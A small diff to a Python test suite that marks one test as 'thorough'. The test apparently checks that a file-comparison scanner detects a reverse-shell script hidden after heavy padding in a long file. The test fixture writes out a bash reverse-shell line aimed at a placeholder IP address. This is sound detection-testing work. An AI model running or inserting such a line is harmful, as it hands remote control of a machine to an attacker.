@@ -53,6 +53,7 @@ def test_an_account_in_a_padded_file_is_not_overlooked(tmp_path: Path) -> None:
     assert "not-compared" in rules(found), "the image's own is too large to be kept"
 
 
+@pytest.mark.thorough
 def test_a_long_text_is_searched_and_what_can_not_be_is_a_gap(tmp_path: Path) -> None:
     shell = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
     found = compared(side(tmp_path / "a", {}, {"/opt/run": b"# pad\n" * 200_000 + shell}))
